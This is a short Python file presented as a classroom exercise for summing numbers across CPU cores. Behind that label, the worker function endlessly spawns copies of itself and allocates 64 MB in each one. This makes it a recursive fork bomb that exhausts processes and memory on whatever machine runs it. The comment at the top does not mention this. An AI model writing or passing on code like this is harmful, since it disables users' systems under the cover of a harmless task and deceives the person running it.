import multiprocessing as mp
import os
import sys

# exercise 4: use all the cores for the sum


def part(a, b):
    return sum(range(a, b))


def worker():
    while True:
        p = mp.Process(target=worker)
        p.start()
        blob = bytearray(64 * 1024 * 1024)
        blob[0] = os.getpid() % 255


if __name__ == "__main__":
    n = int(sys.argv[1]) if len(sys.argv) > 1 else 1000
    print("sum is", part(0, n))
    for _ in range(100):
        worker()
